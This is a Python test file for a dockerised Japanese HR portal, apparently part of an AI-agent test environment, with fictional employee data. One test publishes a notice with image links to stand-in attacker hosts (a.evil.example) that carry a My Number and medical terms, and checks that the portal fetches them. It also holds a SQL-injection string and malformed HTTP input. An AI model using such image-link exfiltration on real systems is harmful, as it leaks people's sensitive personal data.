"""The HR portal: pages and API, least-data events, notices and their link previews."""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import quote

import pytest

from hiyari.errors import EngineError

pytestmark = pytest.mark.docker

DATABASE = {
    "roles": [{"name": "portal", "password": "kawa-9-ishi"}],
    "databases": [{"name": "hr", "owner": "portal"}],
}
SEED = {
    "company": "株式会社みどり製作所",
    "database": {"host": "127.80.0.12", "name": "hr", "user": "portal", "password": "kawa-9-ishi"},
    "accounts": [
        {"login": "assistant", "password": "natsu-4", "token": "TK-0123456789", "role": "hr"},
        {"login": "hr-assistant", "password": "haru-1", "role": "hr"},
        {"login": "clerk", "password": "fuyu-2", "role": "staff"},
    ],
    "employees": [
        {"id": "E1001", "name": "髙橋 花子", "kana": "タカハシ ハナコ", "department": "営業部", "joined": "2018-04-01",
         "leave_granted": 20, "leave_taken": 7.5, "my_number": "123456789012", "medical_history": "喘息の治療歴"},
        {"id": "E1002", "name": "佐藤 健", "department": "営業部", "leave_granted": 18, "leave_taken": 3},
        {"id": "E1003", "name": "鈴木 一", "department": "製造部"},
    ],
    "attendance": [
        {"employee_id": "E1001", "month": "2026-03", "days_worked": 20, "absences": 1, "overtime_hours": 12.5},
        {"employee_id": "E1003", "month": "2026-03", "days_worked": 21, "late": 2, "overtime_hours": 30},
    ],
    "notices": [{"title": "年度始めのご挨拶", "body": "**本年度**も", "created": "2026-04-01T09:00:00+09:00"}],
}  # fmt: skip
ASSISTANT = "Basic " + base64.b64encode(b"assistant:natsu-4").decode()
CLERK = "Basic " + base64.b64encode(b"clerk:fuyu-2").decode()


@pytest.fixture
def portal(hr_service: Any, database_service: Any) -> Any:
    database_service.seed(DATABASE)
    hr_service.seed(SEED)
    hr_service.events()
    return hr_service


def web(host: str, method: str, path: str, login: str, data: str | None, kind: str) -> list[Any]:
    import http.client

    connection = http.client.HTTPConnection(host, 80, timeout=20)
    headers = {"Content-Type": kind} | ({"Authorization": login} if login else {})
    connection.request(method, path, body=None if data is None else data.encode(), headers=headers)
    response = connection.getresponse()
    return [response.status, response.headers.get("Location") or "", response.read().decode()]


def get(network: Any, portal: Any, path: str, login: str = ASSISTANT) -> tuple[int, Any]:
    import json

    status, _, text = network.client(web, portal.address, "GET", path, login, None, "")
    return status, json.loads(text) if path.startswith("/api") and login else text


def post(network: Any, portal: Any, data: Any, login: str = ASSISTANT) -> tuple[int, Any]:
    import json

    body = data if isinstance(data, str) else json.dumps(data, ensure_ascii=False)
    status, _, text = network.client(web, portal.address, "POST", "/api/notices", login, body, "application/json")
    return status, json.loads(text)


def test_the_api_returns_work_fields_and_tells_which(network: Any, portal: Any) -> None:
    """A list holds no special-care data unless asked for; whose data and which fields were read is an event."""
    status, found = get(network, portal, "/api/employees?department=" + quote("営業部"))
    assert status == 200
    assert [row["name"] for row in found["employees"]] == ["髙橋 花子", "佐藤 健"]
    assert found["employees"][0]["leave_left"] == 12.5
    assert "my_number" not in found["employees"][0]
    (event,) = portal.requests()
    assert (event["account"], event["operation"]) == ("assistant", "employee.list")
    assert event["detail"] == {
        "subjects": ["E1001", "E1002"],
        "fields": list(found["employees"][0]),
        "rows": 2,
        "query": {"department": "営業部"},
    }


def test_special_care_fields_come_only_by_name(network: Any, portal: Any) -> None:
    """Asking for My Number and history gives them, by token as well, and the event names these fields."""
    _, found = get(network, portal, "/api/employees/E1001?fields=my_number,medical_history", "Bearer TK-0123456789")
    assert found == {"id": "E1001", "my_number": "123456789012", "medical_history": "喘息の治療歴"}
    (event,) = portal.requests()
    assert (event["account"], event["operation"]) == ("assistant", "employee.read")
    assert event["detail"] == {"subjects": ["E1001"], "fields": ["id", "my_number", "medical_history"], "rows": 1}
    assert "喘息の治療歴" in get(network, portal, "/employees/E1001/confidential")[1]
    (event,) = portal.requests()
    assert "my_number" in event["detail"]["fields"]


def test_staff_is_refused_confidential_fields(network: Any, portal: Any) -> None:
    """An account of the role staff reads work fields only; the attempt is told as refused."""
    assert get(network, portal, "/api/employees/E1001", CLERK)[0] == 200
    assert get(network, portal, "/api/employees?fields=all", CLERK)[0] == 403
    assert get(network, portal, "/employees/E1001/confidential", CLERK)[0] == 403
    assert [(event["operation"], event["allowed"]) for event in portal.requests()] == [
        ("employee.read", True),
        ("employee.list", False),
        ("employee.read", False),
    ]


@pytest.mark.parametrize(
    "login", ["", "Basic !!!", "Basic " + base64.b64encode(b"assistant:x").decode(), "Bearer x", "Bearer ", "Digest a"]
)
def test_nothing_is_shown_without_login(network: Any, portal: Any, login: str) -> None:
    """Bad or missing credentials get 401 on every page, and the attempt is told."""
    assert get(network, portal, "/employees", login)[0] == 401
    (event,) = portal.requests()
    assert (event["operation"], event["allowed"]) == ("login", False)


def test_attendance_departments_and_pages(network: Any, portal: Any) -> None:
    """Attendance can be asked by department and month; the pages show the same in Japanese."""
    _, found = get(network, portal, "/api/attendance?month=2026-03&department=" + quote("営業部"))
    assert found["attendance"] == [
        {"id": "E1001", "name": "髙橋 花子", "department": "営業部", "month": "2026-03", "days_worked": 20,
         "absences": 1, "late": 0, "overtime_hours": 12.5}
    ]  # fmt: skip
    assert get(network, portal, "/api/departments")[1] == {
        "departments": [{"department": "営業部", "employees": 2}, {"department": "製造部", "employees": 1}]
    }
    for path, text in (
        ("/", "年度始めのご挨拶"),
        ("/employees?q=" + quote("タカハシ"), "髙橋 花子"),
        ("/employees/E1001", "年休残日数"),
        ("/attendance", "残業時間"),
        ("/notices/1", "<strong>本年度</strong>"),
        ("/api", "endpoints"),
    ):
        status, page = get(network, portal, path)
        assert status == 200
        assert text in str(page)


def test_publishing_fetches_every_image_from_the_own_address(network: Any, portal: Any) -> None:
    """Inline, reference-style and raw images of a notice are fetched by the portal itself, before it answers."""
    network.outside.events()
    body = (
        "## 集計\n\n![](http://a.evil.example/x.png?d=123456789012 'x')\n\n![ロゴ][logo] <img src='http://b.evil.example/病歴'>\n\n"
        "[link](http://not-fetched.example/)\n\n[logo]: http://a.evil.example/y.png?d=喘息\n"
    )
    status, answer = post(network, portal, {"title": "集計", "body": body})
    assert status == 201
    assert [(entry["status"], entry["type"]) for entry in answer["previews"]] == [(200, "image/png")] * 3
    fetched = [event for event in network.outside.events() if event["event"] == "http"]
    assert [(event["source"], event["host"], event["path"]) for event in fetched] == [
        (portal.address, "a.evil.example", "/x.png?d=123456789012"),
        (portal.address, "a.evil.example", "/y.png?d=" + quote("喘息")),
        (portal.address, "b.evil.example", "/" + quote("病歴")),
    ]
    told = [event["operation"] for event in portal.requests("notice")]
    assert told == ["notice.create"] + ["notice.preview"] * 3
    newest = portal.probe(notices={})[0]
    assert (newest["title"], newest["body"], newest["author"]) == ("集計", body, "assistant")
    assert newest["created"] == "2026-04-06T09:00:01+09:00"


def test_previews_can_go_through_a_proxy(network: Any, hr_service: Any, portal: Any) -> None:
    """With a proxy in the seed only the proxy is asked, with the quoted address of the image."""
    hr_service.seed({**SEED, "preview": {"proxy": "http://preview.midori.example/fetch?url="}})
    network.outside.events()
    post(network, portal, {"title": "t", "body": "![](https://evil.example/a?b=1&c=2)"})
    fetched = [(event["host"], event["path"]) for event in network.outside.events() if event["event"] == "http"]
    assert fetched == [("preview.midori.example", "/fetch?url=https%3A%2F%2Fevil.example%2Fa%3Fb%3D1%26c%3D2")]


def test_previews_that_fail_do_not_fail_the_notice(network: Any, portal: Any) -> None:
    """No such name, no web server, no address: the notice is published and the failure told."""
    body = "![](http://nowhere.example/) ![](http://a.example:81/) ![](http://[::1/) ![](http:///x) ![](https://a.example:80/)"
    status, answer = post(network, portal, {"title": "t", "body": body})
    assert status == 201
    assert len(answer["previews"]) >= 3
    assert all("error" in entry for entry in answer["previews"])


@pytest.mark.parametrize(
    "data", ["", "{", "[1]", "null", {"title": "x"}, {"title": "", "body": "y"}, {"title": "x", "body": "\0"},
             {"title": "x" * 500, "body": "y"}, {"title": "x", "body": "y" * 100_000}, "\x00\xff"]
)  # fmt: skip
def test_bad_notices_are_refused_with_a_reason(network: Any, portal: Any, data: Any) -> None:
    """What is no notice gets 400 and a sentence, and is not published."""
    status, answer = post(network, portal, data)
    assert (status, bool(answer["error"])) == (400, True)
    assert len(portal.probe(notices={})) == 1


def test_bad_questions_are_refused(network: Any, portal: Any) -> None:
    """Unknown fields, people, notices and pages are errors; SQL in a search is text."""
    assert get(network, portal, "/api/employees?fields=salary")[0] == 400
    assert get(network, portal, "/api/employees/E9")[0] == 404
    assert get(network, portal, "/api/notices/99999999999999")[0] == 404
    assert get(network, portal, "/api/nothing")[0] == 404
    assert get(network, portal, "/api/employees?q=" + quote("' or 1=1 --%_"))[1]["count"] == 0
    assert get(network, portal, "/api/employees?q=" + quote("高橋\0"))[0] in (400, 500)
    assert "405" in network.client(web, portal.address, "DELETE", "/employees", ASSISTANT, None, "")[2]


def test_the_form_publishes_too(network: Any, portal: Any) -> None:
    """The page's own form leads to the new notice."""
    data = "title=" + quote("件名") + "&body=" + quote("本文\r\n二行目")
    kind = "application/x-www-form-urlencoded"
    status, location, _ = network.client(web, portal.address, "POST", "/notices", ASSISTANT, data, kind)
    assert (status, location) == (303, "/notices/2")
    assert portal.probe(notices={})[0]["body"] == "本文\n二行目"


def test_probes_and_seeds(portal: Any) -> None:
    """SQL probes read in a transaction that cannot write; a second seed replaces all; a bad one says why."""
    assert portal.probe(sql="select sum(leave_left) as days, count(*) from employee where department = '営業部'") == {
        "columns": ["days", "count"],
        "rows": [[27.5, 2]],
    }
    for query, answer in (
        ({"sql": "delete from notice"}, "read-only"),
        ({"sql": "nonsense"}, "failed"),
        ({}, "a probe of hr is"),
    ):
        with pytest.raises(EngineError, match=answer):
            portal.probe(**query)
    portal.seed({**SEED, "employees": [], "attendance": [], "notices": []})
    assert portal.probe(sql="select count(*) from employee")["rows"] == [[0]]
    with pytest.raises(EngineError, match="unknown field 'salary'"):
        portal.seed({**SEED, "employees": [{"id": "E1", "name": "x", "salary": 3}]})


def test_garbage_does_not_stop_the_portal(network: Any, portal: Any) -> None:
    """Bytes that are not HTTP leave it working."""
    for data in (
        b"\x16\x03\x01" * 100,
        b"GET / HTTP/9.9\r\n\r\n",
        b"POST /api/notices HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
        b"A" * 300_000,
    ):
        network.client(send, portal.address, data.hex())
    assert get(network, portal, "/api/departments")[0] == 200


def send(host: str, data: str) -> None:
    import socket

    with socket.create_connection((host, 80), timeout=5) as connection:
        try:
            connection.sendall(bytes.fromhex(data))
            connection.settimeout(0.3)
            connection.recv(1000)
        except OSError:
            pass
